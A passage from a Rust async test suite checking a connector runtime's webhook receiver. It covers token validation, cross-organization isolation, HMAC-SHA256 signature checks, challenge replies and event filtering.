            .collect(),
        query: serde_json::Map::new(),
        body: body.to_string().into_bytes(),
    }
}

async fn outbox(env: &Env) -> Vec<serde_json::Value> {
    let events = env.store.undispatched_events(100).await.expect("outbox");
    events.iter().map(|(_, e)| serde_json::from_str(&e.payload).expect("payload")).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_documented_after_webhook_example_fetches_the_real_object_and_hands_it_on() {
    let env = webhook_env().await;
    let token = env.runtime.webhook_token(&env.org, "a1", "object_updated");
    assert!(env.runtime.webhook_path(&env.org, "a1", "object_updated").ends_with(&token));
    let body = json!({"event": "object.updated", "api_url": format!("{}/data", env.fake.url)});
    let reply = env
        .runtime
        .receive_webhook(&env.org, "a1", "object_updated", &token, inbound(&body, &[]))
        .await
        .expect("accepted");
    assert_eq!((reply.status, &reply.body["accepted"]), (200, &json!(true)));
    let events = outbox(&env).await;
    assert_eq!(events.len(), 1, "{events:?}");
    assert_eq!(events[0]["type"], "connector.webhook.received");
    assert_eq!(events[0]["data"]["payload"], json!({"items": [1, 2, 3]}), "http_request carried the account's token");
    assert_eq!(
        (events[0]["data"]["accountId"].as_str(), events[0]["data"]["method"].as_str()),
        (Some("a1"), Some("object_updated"))
    );
    assert_eq!(events[0]["data"]["organizationId"], env.org.as_str());

    for (account, method, token) in [
        ("a1", "object_updated", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA".to_owned()),
        ("a1", "signed", token.clone()),
        ("a2", "object_updated", env.runtime.webhook_token(&env.org, "a2", "object_updated")),
        ("a1", "list", env.runtime.webhook_token(&env.org, "a1", "list")),
    ] {
        let refused = env.runtime.receive_webhook(&env.org, account, method, &token, inbound(&body, &[])).await;
        assert_eq!(refused.expect_err("refused").code(), ErrorCode::EntityMissing, "{account} {method}");
    }
    // Another organization's path: with this organization's token, or with a token made for that path, the
    // account is not found there.
    let other = Organization::new("other", SystemClock.now()).expect("org");
    env.store.insert_organization(&other).await.expect("org");
    for token in [token.clone(), env.runtime.webhook_token(&other.id, "a1", "object_updated")] {
        let refused = env.runtime.receive_webhook(&other.id, "a1", "object_updated", &token, inbound(&body, &[])).await;
        assert_eq!(refused.expect_err("another organization").code(), ErrorCode::EntityMissing);
    }
    assert_eq!(outbox(&env).await.len(), 1, "refused webhooks raise nothing");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn signed_webhooks_are_verified_and_before_webhook_may_answer_itself() {
    let env = webhook_env().await;
    let token = env.runtime.webhook_token(&env.org, "a1", "signed");
    let sign = |body: &serde_json::Value, secret: &str| {
        let key = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, secret.as_bytes());
        let tag = aws_lc_rs::hmac::sign(&key, body.to_string().as_bytes());
        format!("sha256={}", hex::encode(tag.as_ref()))
    };
    let event = json!({"action": "opened"});
    for headers in [vec![], vec![("x-hub-signature-256", sign(&event, "wrong"))]] {
        let refused = env.runtime.receive_webhook(&env.org, "a1", "signed", &token, inbound(&event, &headers)).await;
        assert_eq!(refused.expect_err("refused").code(), ErrorCode::WebhookSignatureInvalid);
    }
    let signed = [("x-hub-signature-256", sign(&event, "gh-secret"))];
    let reply = env.runtime.receive_webhook(&env.org, "a1", "signed", &token, inbound(&event, &signed)).await;
    assert_eq!(reply.expect("accepted").body["accepted"], true);

    let challenge = json!({"challenge": "c-42"});
    let signed = [("x-hub-signature-256", sign(&challenge, "gh-secret"))];
    let reply = env.runtime.receive_webhook(&env.org, "a1", "signed", &token, inbound(&challenge, &signed)).await;
    let reply = reply.expect("answered");
    assert_eq!((reply.status, &reply.body), (200, &json!({"challenge": "c-42"})));
    assert_eq!(reply.headers["X-Verified"], "yes");
    let events = outbox(&env).await;
    assert_eq!(events.len(), 1, "only the accepted event: {events:?}");
    assert_eq!(events[0]["data"]["payload"], event);

    let filtered = env.runtime.webhook_token(&env.org, "a1", "filtered");
    let ping = json!({"event": "ping"});
    let reply = env.runtime.receive_webhook(&env.org, "a1", "filtered", &filtered, inbound(&ping, &[])).await;
    assert_eq!(reply.expect("ignored").body, json!({"accepted": false}));
    assert_eq!(outbox(&env).await.len(), 1, "after_webhook's false ignores the webhook");
}
